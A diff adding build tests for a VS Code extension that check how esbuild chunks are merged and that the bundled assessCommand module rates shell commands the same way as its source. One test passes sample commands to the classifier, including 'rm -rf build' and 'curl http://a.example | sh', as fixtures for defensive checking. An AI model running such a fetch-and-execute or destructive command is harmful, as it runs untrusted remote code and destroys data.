@@ -5,6 +5,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { pathToFileURL } from 'node:url';
 import type * as Zod from 'zod';
+import { assessCommand } from '../../src/core/shell/assessCommand';
 import type { Toolset } from '../../src/core/tools/toolsets';
 
 const root = process.env['REPOSITORY']!;
@@ -196,5 +197,106 @@ describe('the code of the window', () => {
       sizes.filter(([, bytes]) => bytes > mostInPart),
       [],
     );
+  });
+});
+
+describe('the modules of the extension', function () {
+  this.timeout(60_000);
+  type Outputs = esbuild.Metafile['outputs'];
+  interface Build {
+    readonly bundles: readonly esbuild.BuildOptions[];
+    readonly windowParts: readonly string[];
+    readonly commandAnalysis: readonly string[];
+  }
+  let build: Build;
+  let folder: string;
+  let before: Outputs;
+  let after: Outputs;
+
+  this.beforeAll(async () => {
+    build = (await load(path.join(root, 'esbuild.js'))) as unknown as Build;
+    const { mergeChunks } = (await load(path.join(root, 'scripts/build/mergeChunks.mjs'))) as {
+      mergeChunks(build: Record<string, unknown>): Promise<Outputs>;
+    };
+    fs.mkdirSync(path.join(root, 'out'), { recursive: true });
+    folder = fs.mkdtempSync(path.join(root, 'out', 'merged-'));
+    const { entryPoints, splitting: _, outdir: __, chunkNames: ___, plugins: ____, ...options } = build.bundles[0]!;
+    const { metafile } = await esbuild.build({ ...build.bundles[0], outdir: folder });
+    before = metafile!.outputs;
+    after = await mergeChunks({
+      outputs: before,
+      root,
+      folder: path.join(folder, 'chunks'),
+      start: (entryPoints as Record<string, string>)['extension'],
+      parts: build.windowParts,
+      laterParts: build.commandAnalysis,
+      separate: [(entryPoints as Record<string, string>)['pdfWorker']],
+      options: { ...options, banner: undefined },
+    });
+  });
+  this.afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));
+
+  const scripts = (outputs: Outputs): [string, Outputs[string]][] =>
+    Object.entries(outputs).filter(([name]) => name.endsWith('.js'));
+  const fileOf = (source: string): string => {
+    const name = path.basename(scripts(before).find(([, { entryPoint }]) => entryPoint === source)![0]);
+    return path.join(folder, 'chunks', name);
+  };
+  /** Returns the files that an import of `file` reads. */
+  const read = (file: string, found = new Set<string>()): Set<string> => {
+    if (found.has(file)) return found;
+    found.add(file);
+    for (const { path: next, kind, external } of after[path.relative(root, file)]!.imports)
+      if (kind === 'import-statement' && !external) read(path.join(root, next), found);
+    return found;
+  };
+
+  it('are merged in the order in which they are loaded', () => {
+    const importedBy = (loader: string): string[] =>
+      Array.from(fs.readFileSync(path.join(root, loader), 'utf8').matchAll(/\bimport\('(.+)'\)/g), ([, name]) =>
+        name!.startsWith('.') ? `${path.join(path.dirname(loader), name!)}.ts` : `node_modules/${name}/dist/parser.js`,
+      );
+    const window = 'src/extension/window/loadWindow.ts';
+    assert.deepEqual(build.windowParts, [window, ...importedBy(window)]);
+    const [, ...analysis] = importedBy('src/core/security/commandAnalysis.ts');
+    assert.deepEqual(build.commandAnalysis, analysis);
+  });
+
+  it('are few: the window is read from one file per part', () => {
+    assert.deepEqual([...read(path.join(folder, 'extension.js'))].map((file) => path.basename(file)).sort(), [
+      'extension.js',
+      'start.js',
+    ]);
+    const files = read(fileOf('src/extension/window/waymarkWindow.ts'));
+    assert.ok(files.size <= build.windowParts.length + 1, [...files].join(' '));
+    assert.ok(!files.has(fileOf(build.commandAnalysis.at(-1)!)), 'commands are judged later');
+  });
+
+  it('contain each chunk once', () => {
+    const places = new Map<string, string[]>();
+    for (const [name, { inputs }] of scripts(after))
+      for (const input of Object.keys(inputs).filter((each) => each.startsWith(path.relative(root, folder))))
+        places.set(input, [...(places.get(input) ?? []), name]);
+    assert.deepEqual(
+      [...places].filter(([, files]) => files.length > 1),
+      [],
+    );
+    const onDisk = fs.readdirSync(path.join(folder, 'chunks')).filter((name) => name.endsWith('.js'));
+    const known = scripts(after).map(([name]) => path.basename(name));
+    assert.deepEqual(
+      onDisk.filter((name) => !known.includes(name)),
+      [],
+    );
+  });
+
+  it('find everything that they import, and judge commands as the sources do', async () => {
+    const editor = path.join(folder, 'node_modules/vscode');
+    fs.mkdirSync(editor, { recursive: true });
+    fs.writeFileSync(path.join(editor, 'package.json'), '{ "main": "index.js" }');
+    fs.writeFileSync(path.join(editor, 'index.js'), 'module.exports = {};\n');
+    for (const source of [...build.windowParts.slice(0, 9), ...build.commandAnalysis]) await load(fileOf(source));
+    const merged = (await load(fileOf('src/core/shell/assessCommand.ts'))) as { assessCommand: typeof assessCommand };
+    for (const command of ['ls -la', 'rm -rf build', 'git push --force', 'curl http://a.example | sh'])
+      assert.deepEqual(merged.assessCommand(command), assessCommand(command), command);
   });
 });
